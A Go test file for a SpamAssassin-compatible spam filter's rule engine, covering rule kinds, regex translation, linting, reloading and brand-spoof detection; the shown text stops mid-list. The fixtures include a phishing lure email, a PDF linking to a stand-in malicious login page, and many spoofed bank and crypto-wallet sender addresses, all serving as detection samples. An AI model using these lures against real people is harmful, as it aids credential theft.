package rules

import (
	"cmp"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/postern/postern/filter"
	"github.com/postern/postern/internal/corpus"
	"github.com/postern/postern/scan"
	"github.com/postern/postern/spool"
)

func writeRules(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// mustLoadRules writes files as writeRules does and loads them, failing the test
// on any error.
func mustLoadRules(t *testing.T, files map[string]string) *Set {
	t.Helper()
	s, problems := Load(writeRules(t, files))
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatal(errs)
	}
	return s
}

func msgOf(t testing.TB, raw string) *filter.Message {
	t.Helper()
	raw = strings.ReplaceAll(raw, "\n", "\r\n")
	m, err := scan.Parse(strings.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	sp := spool.FromBytes([]byte(raw))
	return &filter.Message{Raw: sp, Size: sp.Size(), Parsed: m, Env: &filter.Envelope{}}
}

func hitNames(t testing.TB, s *Set, m *filter.Message) []string {
	t.Helper()
	var names []string
	for _, h := range mustEval(t, s, m) {
		if h.Rule.Name != "GTUBE" {
			names = append(names, h.Rule.Name)
		}
	}
	slices.Sort(names)
	return names
}

// mustEval is s.Eval(m), an error failing the test.
func mustEval(t testing.TB, s *Set, m *filter.Message) []Hit {
	t.Helper()
	hits, err := s.Eval(m)
	if err != nil {
		t.Errorf("eval: %v", err)
	}
	return hits
}

const sample = `From: "Big Bank" <alert@bigbank.example>
To: alice@example.com
Cc: bob@example.com
Reply-To: =?utf-8?q?J=C3=BCrgen?= <drop@other.example>
Subject: =?utf-8?q?Your_account_is_SUSPENDED?=
X-Note: ends here` + "\u00a0" + `
Message-ID: <abc@bigbank.example>
Content-Type: multipart/alternative; boundary=b

--b
Content-Type: text/plain

Dear customer, your account
has been suspended. Please verify your account at
http://192.0.2.1/login.php today.
--b
Content-Type: text/html

<html><body><p>Click <a href="http://bit.ly/abc">here</a> &amp; win</p><div style="display:none">hidden words</div></body></html>
--b--
`

func TestRuleKinds(t *testing.T) {
	tests := []struct {
		name string
		rule string
		hit  bool
	}{
		{"header", `header R Subject =~ /account is suspended/i`, true},
		{"header decoded", `header R Reply-To =~ /Jürgen/`, true},
		{"header :raw", `header R Reply-To:raw =~ /=\?utf-8\?q\?J=C3=BCrgen/`, true},
		{"header :addr", `header R From:addr =~ /^alert\@bigbank\.example$/`, true},
		{"header :name", `header R From:name =~ /^Big Bank$/`, true},
		{"header !~ on a present header", `header R Subject !~ /lottery/`, true},
		{"header !~ that matches", `header R Subject !~ /account/i`, false},
		{"header missing, =~", `header R X-Nope =~ /./`, false},
		{"header missing, !~", `header R X-Nope !~ /./`, true},
		{"if-unset", `header R X-Nope =~ /^unset$/ [if-unset: unset]`, true},
		{"exists", `header R exists:Reply-To`, true},
		{"exists missing", `header R exists:X-Mailer`, false},
		{"ALL", `header R ALL =~ /^Cc: bob/m`, true},
		{"ALL keeps the name's case", `header R ALL =~ /^Message-ID: /m`, true},
		{"ALL, not canonical case", `header R ALL =~ /^Message-Id: /m`, false},
		{"a value keeps a no-break space at its end", `header R X-Note =~ /^ends here\xc2\xa0$/`, true},
		{"ALL decodes encoded words", `header R ALL =~ /^Subject: Your account is SUSPENDED$/m`, true},
		{"ALL decodes a name", `header R ALL =~ /^Reply-To: Jürgen <drop\@other/m`, true},
		{"ALL:raw keeps encoded words", `header R ALL:raw =~ /^Subject: =\?utf-8\?q\?Your_account/m`, true},
		{"ALL:raw as written", `header R ALL:raw =~ /^Reply-To: =\?utf-8\?q\?J=C3=BCrgen\?= <drop/m`, true},
		{"ToCc", `header R ToCc =~ /bob\@example/`, true},
		{"MESSAGEID", `header R MESSAGEID =~ /\@bigbank\.example/`, true},
		{"body: paragraph lines joined", `body R /your account has been suspended/`, true},
		{"body: HTML rendered", `body R /Click here & win/`, true},
		{"body: Subject first", `body R /^Your account is SUSPENDED$/m`, true},
		{"body: no markup", `body R /<a href/`, false},
		{"rawbody: markup kept", `rawbody R /<a href="http:\/\/bit\.ly/`, true},
		{"rawbody: lines not joined", `rawbody R /your account has been/`, false},
		{"uri", `uri R m{^http://192\.0\.2\.1/}`, true},
		{"uri from href", `uri R /bit\.ly\/abc/`, true},
		{"full", `full R /^Content-Type: text\/html$/m`, true},
		{"full sees encoded header", `full R /=\?utf-8\?q\?Your_account/`, true},
		{"x flag", `body R / verify \s+ your \s+ account  /x`, true},
		{"case", `body R /DEAR CUSTOMER/`, false},
		// An empty regex matches every text, a missing header's too, as
		// SpamAssassin's compiled qr// does (spamassassin -D rules: a hit
		// on each of these); it crashed header rules before.
		{"empty header", `header R Subject =~ //`, true},
		{"empty header, missing", `header R X-Nope =~ //`, true},
		{"empty header, !~", `header R Subject !~ //`, false},
		{"empty body", `body R //`, true},
		{"empty rawbody", `rawbody R //`, true},
		{"empty uri", `uri R //`, true},
		{"empty full", `full R //`, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := writeRules(t, map[string]string{"r.cf": tc.rule + "\n"})
			s, problems := Load(dir)
			if errs := Errors(problems); len(errs) > 0 || s.Rule("R") == nil {
				t.Fatalf("load: %v", problems)
			}
			got := slices.Contains(hitNames(t, s, msgOf(t, sample)), "R")
			if got != tc.hit {
				t.Errorf("hit = %v, want %v", got, tc.hit)
			}
		})
	}
}

// The parts body and rawbody rules read, as SpamAssassin reads them (its
// get_decoded_stripped_body_text_array and get_decoded_body_text_array for this
// message): body rules the text/plain and text/html parts, rendered, with an
// attachment named *.html read as HTML; rawbody rules every text part but a
// text/calendar one, the HTML as written.
func TestPartsRead(t *testing.T) {
	page := base64.StdEncoding.EncodeToString([]byte("<html><body><p>htmlword &amp; more</p></body></html>"))
	msg := msgOf(t, `From: a@example.com
To: b@example.com
Subject: t
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="XX"

--XX
Content-Type: text/plain

plainword
--XX
Content-Type: text/calendar

calendarword
--XX
Content-Type: text/x-vcard

vcardword
--XX
Content-Type: application/octet-stream; name="page.html"
Content-Transfer-Encoding: base64

`+page+`
--XX--
`)
	s := mustLoadRules(t, map[string]string{"r.cf": `
body    B_PLAIN    /plainword/
body    B_CALENDAR /calendarword/
body    B_VCARD    /vcardword/
body    B_HTML     /htmlword & more/
rawbody R_PLAIN    /plainword/
rawbody R_CALENDAR /calendarword/
rawbody R_VCARD    /vcardword/
rawbody R_HTML     /<p>htmlword &amp; more/
`})
	want := []string{"B_HTML", "B_PLAIN", "R_HTML", "R_PLAIN", "R_VCARD"}
	if got := hitNames(t, s, msg); !slices.Equal(got, want) {
		t.Errorf("hits %v, want %v", got, want)
	}
}

// A part in ISO-2022-JP reaches rawbody rules as the 7-bit bytes it was sent in
// and body rules as its text, as SpamAssassin gives them: CTE_8BIT_MISMATCH's
// __L_BODY_8BITS finds no 8-bit byte in Japanese mail, but does in Latin-1.
func TestRawbodySevenBitCharset(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"r.cf": `
rawbody R_8BITS   /[\x80-\xff]/
rawbody R_ESCAPES /\x1b\$B/
body    B_TEXT    /日本語/
`})
	for _, tc := range []struct {
		charset, body string
		want          []string
	}{
		{"ISO-2022-JP", "\x1b$BF|K\\8l$N%F%-%9%H\x1b(B", []string{"B_TEXT", "R_ESCAPES"}},
		{"iso-8859-1", "caf\xe9", []string{"R_8BITS"}},
	} {
		m := msgOf(t, "From: a@example.com\nSubject: t\nMIME-Version: 1.0\nContent-Type: text/plain; charset="+tc.charset+"\n\n"+tc.body+"\n")
		if got := hitNames(t, s, m); !slices.Equal(got, tc.want) {
			t.Errorf("%s: hits %v, want %v", tc.charset, got, tc.want)
		}
	}
}

// The signing domains of DKIM signatures are links too, "domainkeys:DOMAIN", as
// SpamAssassin's parse_dkim_uris (on by default) adds them: "noclean", for the
// URI host lists (and the block lists), not for the uri rules. The hits are
// spamassassin -L -t's (--cf with these rules) on the signed message.
func TestSigningDomainURIs(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"r.cf": `
uri  U_DK   /^domainkeys:news\.example\.online$/
enlist_uri_host (BAD_TLD) online
header H_BAD eval:check_uri_host_listed('BAD_TLD')
`})
	signed := msgOf(t, "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n d=news.example.online; s=sel; h=from;\n bh=abc=; b=def=\nFrom: a@news.example.online\nSubject: t\n\nno links here\n")
	if got := hitNames(t, s, signed); !slices.Equal(got, []string{"H_BAD"}) {
		t.Errorf("signed: hits %v, want H_BAD", got)
	}
	if got := hitNames(t, s, msgOf(t, "From: a@news.example.online\nSubject: t\n\nno links here\n")); len(got) != 0 {
		t.Errorf("unsigned: hits %v, want none", got)
	}
}

// TestPDFLinkURIs: a PDF attachment's links are the message's, for the uri
// rules and the URI block lists (URIs), in their canonical forms, as
// SpamAssassin's PDFInfo adds them.
func TestPDFLinkURIs(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"r.cf": `
uri  U_SHORT  m{^https://bit\.ly/3uW44X4$}
uri  U_CANON  m{^http://www\.evil\.example/login$}
`})
	// A PDF whose one page is a link, as phishing sends it, in base64.
	pdf := base64.StdEncoding.EncodeToString([]byte("%PDF-1.4\n1 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bit.ly/3uW44X4) >> >>\nendobj\n" +
		"2 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (www.evil.example/login) >> >>\nendobj\n%%EOF\n"))
	m := msgOf(t, "From: a@example.com\nSubject: doc\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<div><br></div>\n--b\n"+
		"Content-Type: application/pdf; name=\"Doc.pdf\"\nContent-Transfer-Encoding: base64\n\n"+pdf+"\n--b--\n")
	if got := hitNames(t, s, m); !slices.Equal(got, []string{"U_CANON", "U_SHORT"}) {
		t.Errorf("hits %v, want U_CANON and U_SHORT", got)
	}
	if got := URIs(m.Parsed); !slices.Equal(got, []string{"https://bit.ly/3uW44X4", "www.evil.example/login", "http://www.evil.example/login"}) {
		t.Errorf("URIs: %q", got)
	}
	wantHit(t, defaultSet(t), m, "PST_URI_SHORTENER", true)
}

// ALL:raw is the header as the message has it, where ALL writes "Name: value":
// no space after a colon stays none (__HDRS_MISSP), a fold stays a fold.
func TestAllRaw(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"r.cf": `
header R_MISSP ALL:raw =~ /^From:\S/m
header R_FOLD  ALL:raw =~ /^Subject: one\n\ttwo$/m
header R_ALL   ALL =~ /^From:\S/m
`})
	m := msgOf(t, "From:\"x\" <a@b.example>\nSubject: one\n\ttwo\nTo: c@d.example\n\nbody\n")
	if got := hitNames(t, s, m); !slices.Equal(got, []string{"R_FOLD", "R_MISSP"}) {
		t.Errorf("hits %v, want R_FOLD and R_MISSP", got)
	}
}

func TestMeta(t *testing.T) {
	rules := `
body __A /customer/
body __B /suspended/
body __C /lottery/
meta M_AND __A && __B
meta M_OR __C || __A
meta M_NOT !__C
meta M_SUM (__A + __B + __C) >= 2
meta M_CMP __A == 1 && __C < 1
meta M_PAREN !(__A && __C)
meta M_FALSE __A && __C
meta M_META M_AND && !M_FALSE
meta M_MISSING __A && NOT_DEFINED
meta M_CYCLE1 M_CYCLE2
meta M_CYCLE2 M_CYCLE1
`
	dir := writeRules(t, map[string]string{"m.cf": rules})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatal(errs)
	}
	got := hitNames(t, s, msgOf(t, sample))
	want := []string{"M_AND", "M_CMP", "M_META", "M_NOT", "M_OR", "M_PAREN", "M_SUM", "__A", "__B"}
	if !slices.Equal(got, want) {
		t.Errorf("hits %v, want %v", got, want)
	}
	var warned []string
	for _, p := range problems {
		if p.Warning {
			warned = append(warned, p.Rule)
		}
	}
	for _, w := range []string{"M_MISSING", "M_CYCLE1"} {
		if !slices.Contains(warned, w) {
			t.Errorf("no warning for %s: %v", w, problems)
		}
	}
}

func TestScoresAndOverrides(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"10_a.cf": "body R1 /customer/\nscore R1 2.5\ndescribe R1 first\nbody R2 /suspended/\nbody __SUB /verify/\nbody T_TEST /account/\n",
		"20_b.cf": "score R1 0.5\ndescribe R1 overridden\nscore R2 1.0 2.0 3.0 4.0\nbody R3 /customer/\nscore R3 0\n",
	})
	s, _ := Load(dir)
	c := NewCheck(s)
	r := c.Check(context.Background(), msgOf(t, sample))
	got := map[string]filter.Test{}
	for _, tt := range r.Tests {
		got[tt.Name] = tt
	}
	if got["R1"].Score != 0.5 || got["R1"].Description != "BODY: overridden" {
		t.Errorf("R1 %+v", got["R1"])
	}
	if got["R2"].Score != 3.0 {
		t.Errorf("R2 (four scores: set 2 is the third) %+v", got["R2"])
	}
	if got["T_TEST"].Score != 0.01 {
		t.Errorf("T_ rules default to 0.01: %+v", got["T_TEST"])
	}
	if _, ok := got["__SUB"]; ok {
		t.Error("sub-rule reported")
	}
	if _, ok := got["R3"]; ok {
		t.Error("rule scored 0 reported")
	}
}

func TestLintProblems(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"bad.cf": `# a comment
body GOOD /fine/
body BAD_RE /unclosed(/
header BAD_HDR Subject ~~ /x/
body BACKREF /(a)\1/
body LOOK /foo(?=bar)(?R)/
meta BAD_META (GOOD &&
score GOOD lots
body 9NAME /x/
ifplugin Mail::SpamAssassin::Plugin::Unknown
body PLUGIN_RULE eval:check_something()
this is not parsed at all
endif
if (version >= 3.004000)
body VERSIONED /v/
endif
include sub/more.cf
endif
score NO_SUCH_RULE 2.0
`,
		"sub/more.cf": "body INCLUDED /included/\nbody EVAL eval:check_foo()\n",
	})
	s, problems := Load(filepath.Join(dir, "bad.cf"))
	var lines []string
	for _, p := range problems {
		lines = append(lines, p.String())
	}
	all := strings.Join(lines, "\n")
	for _, want := range []string{
		"bad.cf:3: error: BAD_RE:", "bad.cf:4: error: BAD_HDR:",
		"bad.cf:6: warning: LOOK: skipped: unsupported by RE2: lookahead (?=, and the backtracking engine rejects it", "bad.cf:7: error: BAD_META:", "bad.cf:8: error: GOOD: score",
		"bad.cf:9: error: 9NAME: bad rule name", "bad.cf:18: error: endif without if", "more.cf:2: warning: EVAL: skipped: eval function check_foo (not implemented)",
		"bad.cf:19: warning: NO_SUCH_RULE: score for a rule that is not defined", // where the score line is
	} {
		if !strings.Contains(all, want) {
			t.Errorf("missing %q in:\n%s", want, all)
		}
	}
	// A backreference runs on the backtracking engine (ruleRegex).
	for _, name := range []string{"GOOD", "VERSIONED", "INCLUDED", "BACKREF"} {
		if s.Rule(name) == nil {
			t.Errorf("%s not loaded", name)
		}
	}
	if s.Rule("PLUGIN_RULE") != nil {
		t.Error("rule inside ifplugin of an unknown plugin was loaded")
	}
}

// Scores for rules that are not defined are warned of in the order the files
// were read, by line: a local.cf read after the stock files lists its own
// together, whatever the files' names.
func TestUndefinedScoresInReadOrder(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"z.cf": "score Z_TWO 1\nbody Z_DEF /z/\nscore Z_ONE 1\n",
		"a.cf": "score A_ONE 1\n",
	})
	_, problems := Load(filepath.Join(dir, "z.cf"), filepath.Join(dir, "a.cf"))
	var got []string
	for _, p := range problems {
		if strings.Contains(p.String(), "score for a rule that is not defined") {
			got = append(got, p.Rule)
		}
	}
	if want := "Z_TWO Z_ONE A_ONE"; strings.Join(got, " ") != want {
		t.Errorf("warnings for %q, want %q", strings.Join(got, " "), want)
	}
}

// The stock rules' "if" blocks: versions compare against the SpamAssassin whose
// rules Postern reads (4.0.1), so its "< 4" fallbacks (meta __SUBJ_ILLEGAL_CHARS
// 0) do not override the 4.0 rules; conditions combine as Perl's do.
func TestEvalIf(t *testing.T) {
	for _, c := range []struct {
		cond string
		want bool
	}{
		{"(version >= 3.004000)", true},
		{"(version >= 4.000000)", true},
		{"(version < 4.000000)", false},
		{"!((version >= 3.003000))", false},
		{"version >= 4.000002", false},
		{"version == 4.000001", true},
		{"can(Mail::SpamAssassin::Conf::perl_min_version_5010000)", true},
		{"can(Mail::SpamAssassin::Conf::feature_bayes_stopwords)", true},
		{"can(Mail::SpamAssassin::Conf::feature_capture_rules)", false}, // not supported
		{"can(Mail::SpamAssassin::Conf::something_else)", false},
		{"plugin(Mail::SpamAssassin::Plugin::FreeMail)", true},
		{"plugin(Mail::SpamAssassin::Plugin::Unknown)", false},
		{"version >= 3.004002 && !plugin(Mail::SpamAssassin::Plugin::Unknown)", true},
		{"(version < 3) || (version > 4)", true},
		{"not version > 4 and 1", false},
		{"(version >= 3.004000", false}, // unbalanced
		{"junk", false},
		{"", false},
	} {
		if got := evalIf(c.cond); got != c.want {
			t.Errorf("evalIf(%q) = %v, want %v", c.cond, got, c.want)
		}
	}
}

func TestTranslate(t *testing.T) {
	tests := []struct {
		perl    string
		matches []string
		not     []string
		unsup   bool
	}{
		{`/foo\b/i`, []string{"FOO bar"}, []string{"food"}, false},
		// A class of every high-bit byte is one of every character not ASCII.
		{`/(?:[\x80-\xff].?){4}/`, []string{"광고 요청", "中文邮件"}, []string{"plain ascii", "é"}, false},
		{`/[\x80-\xFF]/`, []string{"中", "é"}, []string{"abc"}, false},
		{`m{a/b}`, []string{"a/b"}, nil, false},
		{`m!x!`, []string{"x"}, nil, false},
		{`/a\/b/`, []string{"a/b"}, nil, false},
		{`/^ab$/`, []string{"ab", "ab\n"}, []string{"abc"}, false},
		{`/a.c/s`, []string{"a\nc"}, nil, false},
		{`/a.c/`, nil, []string{"a\nc"}, false},
		{`/^b/m`, []string{"a\nb"}, nil, false},
		{`/^b$/m`, []string{"a\nb", "a\nb\n", "b\nc"}, []string{"a\nbc"}, false},
		{`/a \s b  # c/x`, []string{"a b"}, nil, false},
		{`/[[:alpha:]]+\d/`, []string{"ab1"}, nil, false},
		{`/a.*?b/`, []string{"axxb"}, nil, false},
		{`/\x41\x4/`, []string{"A\x04"}, nil, false},
		{`/[\042\0]{2}/`, []string{`""`, "\x00\""}, []string{"42", "\x0042"}, false},
		{`/\@\%\'/`, []string{`@%'`}, nil, false},
		{`/foo\Z/`, []string{"foo", "foo\n"}, nil, false},
		{`/\h+/`, []string{"a \tb"}, nil, false},
		{`/[]a]/`, []string{"]"}, nil, false},
		{`/(?<word>\w+)/`, []string{"x"}, nil, false},
		{`/(a)\1/`, nil, nil, true},
		{`/a(?=b)/`, nil, nil, true},
		{`/(?<!a)b/`, nil, nil, true},
		{`/(?>a+)/`, nil, nil, true},
		{`/a++/`, nil, nil, true},
		{`/\Kx/`, nil, nil, true},
		{`/vi(?:=FA|[\xfa]|[\xc3][\xba])va/`, []string{"viúva", "vi=FAva"}, []string{"vi\u00c3\u00bava"}, false},
	}
	for _, tc := range tests {
		re, _, err := perlRegex(tc.perl)
		var u ErrUnsupported
		if tc.unsup {
			if !errors.As(err, &u) {
				t.Errorf("%s: err = %v, want unsupported", tc.perl, err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.perl, err)
			continue
		}
		for _, m := range tc.matches {
			if !re.MatchString(m) {
				t.Errorf("%s (as %s) does not match %q", tc.perl, re, m)
			}
		}
		for _, m := range tc.not {
			if re.MatchString(m) {
				t.Errorf("%s (as %s) matches %q", tc.perl, re, m)
			}
		}
	}
}

func TestRequiredLiterals(t *testing.T) {
	for re, want := range map[string]string{
		`/viagra/i`:                 "viagra",
		`/click\s+here/`:            "click",
		`/(?:foo|bar)baz/`:          "baz",
		`/(?:foo|bar)/`:             "foo,bar",
		`/\bfree\s+(?:money|cash)/`: "free",
		`/\bget\s+(?:money|cash)/`:  "money,cash",
		`/(?:foo|x)/`:               "",
		`/ab/`:                      "",
		`/(?:a+|b)c/`:               "",
		`/ad+ress/`:                 "dress",
		`/of+ice/`:                  "fice",
		`/(?:ab)+c/`:                "abc",
		`/v+i+a+g+r+a+/`:            "",
	} {
		_, lits, err := perlRegex(re)
		if err != nil || strings.Join(lits, ",") != want {
			t.Errorf("%s: literals %q (%v), want %q", re, lits, err, want)
		}
	}
}

// The prefilter never changes an answer: with and without it, the same rules hit.
func TestPrefilterAgrees(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": "body A /suspended/\nbody B /Click\\s+here/i\nbody C /zzzz(?:x|y)/\nrawbody D /display:\\s*none/\nfull E /Subject: =\\?utf-8/\nbody F /DEAR(?-i:x)/i\nbody G /Dear customer/\nbody H /dEAR CUSTOMER/i\n"})
	s, _ := Load(dir)
	m := msgOf(t, sample)
	with := hitNames(t, s, m)
	if !slices.Contains(with, "H") || !slices.Contains(with, "B") || slices.Contains(with, "F") {
		t.Errorf("with prefilter and lower-case matching: %v", with)
	}
	for _, r := range s.rules {
		r.lits, r.lower, r.dfa, r.pre, r.starts, r.plain = nil, false, nil, nil, nil, ""
	}
	undecided(s)
	if without := hitNames(t, s, m); !slices.Equal(with, without) {
		t.Errorf("with prefilter %v, without %v", with, without)
	}
}

// Reloading: a broken set is reported, and a caller keeps the old one; a message in
// flight finishes on the set it started with.
func TestReload(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": "body OLD /customer/\n"})
	s, _ := Load(dir)
	c := NewCheck(s)
	os.WriteFile(filepath.Join(dir, "r.cf"), []byte("body NEW /customer/\nbody BROKEN /(/\n"), 0o644)
	next, problems := Load(dir)
	if len(Errors(problems)) == 0 {
		t.Fatal("broken file loaded without errors")
	}
	_ = next
	if got := c.Check(context.Background(), msgOf(t, sample)); len(got.Tests) != 1 || got.Tests[0].Name != "OLD" {
		t.Errorf("after a failed reload: %+v", got.Tests)
	}
	os.WriteFile(filepath.Join(dir, "r.cf"), []byte("body NEW /customer/\n"), 0o644)
	next, problems = Load(dir)
	if len(Errors(problems)) > 0 {
		t.Fatal(problems)
	}
	old := c.Set()
	c.Swap(next)
	if got := c.Check(context.Background(), msgOf(t, sample)); len(got.Tests) != 1 || got.Tests[0].Name != "NEW" {
		t.Errorf("after reload: %+v", got.Tests)
	}
	if old.Rule("OLD") == nil {
		t.Error("the old set changed under a reader")
	}
}

func TestDefaultRules(t *testing.T) {
	s, problems := Load(DefaultPath)
	if len(problems) > 0 {
		t.Fatalf("default rules have problems: %v", problems)
	}
	got := hitNames(t, s, msgOf(t, sample))
	for _, want := range []string{"PST_VERIFY_ACCOUNT", "PST_ACCOUNT_SUSPENDED", "PST_URI_IP", "PST_URI_SHORTENER", "PST_URI_LOGIN_PHP", "PST_PHISH_COMBO", "PST_CLICK_HERE", "PST_HTML_HIDDEN"} {
		if !slices.Contains(got, want) {
			t.Errorf("default rules miss %s on the phishing sample: %v", want, got)
		}
	}
}

// TestDefaultBrandSpoof: a From name that names a much-phished brand hits
// PST_FROM_BRAND_SPOOF unless the address is the brand's (its subdomains too);
// names that only contain the word, in another sense, do not.
func TestDefaultBrandSpoof(t *testing.T) {
	ruleCases(t, "PST_FROM_BRAND_SPOOF", fromMsg, []ruleCase{
		{`"Microsoft account team" <no-reply@access-accsecurity.com>`, true},
		{`Microsoft account team <account-security-noreply@accountprotection.microsoft.com>`, false},
		{`Outlook Support Team <social201511138@social.helwan.example>`, true},
		{`Weekly Outlook <news@markets.example>`, false},
		// Exchange's bounces and reports, from a customer's own domain; the
		// addresses under another Microsoft name are no report's.
		{`Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@contoso.example>`, false},
		{`Microsoft Outlook <postmaster@contoso.example>`, false},
		{`Microsoft Exchange <postmaster@contoso.example>`, false},
		{`Microsoft account team <postmaster@contoso.example>`, true},
		{`Microsoft 365 <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@contoso.example>`, true},
		{`Microsoft Outlook <support@contoso.example>`, true},
		{`PayPal <service@paypal.de>`, false},
		{`PayPal <service@paypal-secure-login.com>`, true},
		{`Pay Pal Billing <billing@paypal.com.example.net>`, true},
		{`Amazon.de <versandbestaetigung@amazon.de>`, false},
		{`"Amazon Gutschein" <service@stayfriends.de>`, true},
		{`Facebook <>`, true},
		{`Instagram <security@mail.instagram.com>`, false},
		{`Trust Wallet <claudia@itpro.net.br>`, true},
		{`Ledger <do-not-reply@maildbx.com>`, true},
		{`General Ledger Team <gl@accounting.example>`, false},
		{`Ledger Security <ledger@secureliveupdates.com>`, true},
		{`Hiba from Ledger <ledger-notifications@noonspain.com>`, true},
		{`Support Ledger <noreply@oliv.com>`, true},
		{`Ledger <hello@ledger.com>`, false},
		{`The Ledger <news@theledger.example>`, false},
		{`Ledger Team at Acme Accounting <gl@acme.example>`, false},
		{`Team Ripple <ripple@1803nyc.com>`, true},
		{`Stellar Development Foundation <noreply@mpzcs.example>`, true},
		{`EXODUS <info@revhero.io>`, true},
		{`Tether.to <support@dkmrd.zendesk.com>`, true},
		{`PANCAKESWAP <notifications@github.com>`, true},
		{`Kraken <support@kraken.com>`, false},
		{`Ripple <hello@xrpl.org>`, false},
		{`Ripple Effect Consulting <info@ripple-effect.example>`, false},
		{`Stellar Hotels <book@stellarhotels.example>`, false},
		{`Kraken Rum Club <club@krakenrum.example>`, false},
		{`Exodus Church Choir <choir@exodus-church.example>`, false},
		{`EDEKA <service@stayfriends.de>`, true},
		{`Decathlon <otto-newsletter@newsletter.otto.de>`, true},
		{`Walmart <offer_1_98217@b3ila3.aboutline.beauty>`, true},
		{`Lidl <newsletter@mailing.lidl.de>`, false},
		{`IKEA Family <news@ikea-news.example>`, false},
		{`Aldi Süd <info@aldi-sued.de>`, false},
		{`Otto Penny <otto.penny@example.de>`, false},
		{`Lowe's Customer Support ,_<80858@tuneuirlinne.com>`, true},
		{`"Omaha Steaks" <newsletterJJBCK@stcimmersion.com>`, true},
		{`Best Buy <BestBuyInfo@emailinfo.bestbuy.com>`, false},
		{`Rob Lowe <rob@lowe-family.example>`, false},
		{`CVS commits <commits@svn.example.org>`, false},
		{`BinanceBNB <binancebnb2@d5m5rl7.onmicrosoft.com>`, true},
		{`Bradesco <reaply@pesnochao.com.br>`, true},
		{`Portal Receita Federal <declaracao@207235rctregularizacao.com>`, true},
		{`Correios <naoresponder@correios.com.br>`, false},
		{`Receita Federal <noreply@receita.fazenda.gov.br>`, false},
		{`Mercado Pago <info@mercadopago.com.br>`, false},
		{`Mercado Pago <info@mercadopago.com.mx>`, false},
		{`Mercado Libre <notificaciones@mercadolibre.com.ar>`, false},
		{`Mercado Livre <suportemercadolivre@hotmail.com>`, true},
		{`Mercado Pago <no-reply@mercadopago.com.ar.example.net>`, true},
		// Banco do Brasil as BB, in capitals only; BrasiI with a capital I;
		// Itaucard; the government's portal by its name.
		{`"[BB] - Comunicado ao cliente - Cod.  37165178664887" <sonyralph@gmail.com>`, true},
		{`"(Portal-BB) - Comunicado Urgente" <dsaewtgfrdesa@gmail.com>`, true},
		{`"Informa BB: Conta bloqueada" <marthacarter@gmail.com>`, true},
		{`BB <comunicado@bb.com.br>`, false},
		{`"BB&T Alerts" <alerts@bbt.example>`, false},
		{`BBC News <newsletter@bbc.co.uk>`, false},
		{`"The bb gun club" <club@bbgun.example>`, false},
		{`"[Banco do BrasiI - Comunicado 6333967970]" <hguj20286@gmail.com>`, true},
		{`"[Itaucard Pontos - 63600497739178]" <johnnyhughes@gmail.com>`, true},
		{`Itaucard <faturadigital@itaucard.com.br>`, false},
		{`"[GovBR]- Valores a Receber" <himhehimim817@gmail.com>`, true},
		{`gov.br <naoresponda@acesso.gov.br>`, false},
		{`Governo Brasileiro <contato@example.com.br>`, false},
		{`Detran Notifica <comunicado732254@regularizarcnh.example>`, true},
		{`DETRAN-SP <naoresponda@detran.sp.gov.br>`, false},
		{`Mcafee® <support@snowymespilus.com>`, true},
		{`Norton Security <billing@pier.socialbl.com>`, true},
		{`Norton Smith <norton.smith@example.com>`, false},
		{`McAfee <mcafee@mail.mcafee.com>`, false},
		{`Binance <do-not-reply@post.binance.com>`, false},
		{`Apple <no_reply@email.apple.com>`, false},
		{`Apple Support <support@apple-id-verify.info>`, true},
		{`Apple Valley Garden Club <news@avgc.example>`, false},
		{`DHL Express <noreply@dhl.com>`, false},
		{`DHL Paket <paket@dhl-zustellung.info>`, true},
		{`DHL eCommerce <noreply@dhlparcel.nl>`, false},
		{`DHL Parcel UK <noreply@dhlparcel.co.uk>`, false},
		{`Ups and Downs Newsletter <news@ups-and-downs.example>`, false},
		{`UPS My Choice <mcinfo@ups.com>`, false},
		{`John Doe via DocuSign <dse_na3@docusign.net>`, false},
		{`Dropbox Sign <noreply@mail.hellosign.com>`, false},
		{`Google <no-reply@accounts.google.com>`, false},
		{`Google Storage <alert@storage-warn.example>`, true},
		{`Jane Doe <jane.googlefan@gmail.com>`, false},
		// A brand's own top-level domain and its newsletters' domains are its
		// own; an open top-level domain (.live) is anyone's, and neither a
		// look-alike domain nor a brand's domain before another's is the brand's.
		{`Microsoft Teams <no-reply@teams.mail.microsoft>`, false},
		{`Microsoft Store <microsoftstore@email.microsoftemail.com>`, false},
		{`Microsoft Rewards <microsoftrewards@email.microsoftrewards.com>`, false},
		{`Microsoft Rewards <rewards@microsoftrewards-claim.example>`, true},
		{`Google <noreply@blog.google>`, false},
		{`DHL Paket <noreply@paket.dhl>`, false},
		{`Microsoft 365 <support@office-alerts.live>`, true},
		{`Microsoft Teams <no-reply@teams.mail.microsoft.example.com>`, true},
		// The name as the reader sees it (From:name:shown): look-alike letters
		// of other alphabets, characters that show nothing, compatibility forms.
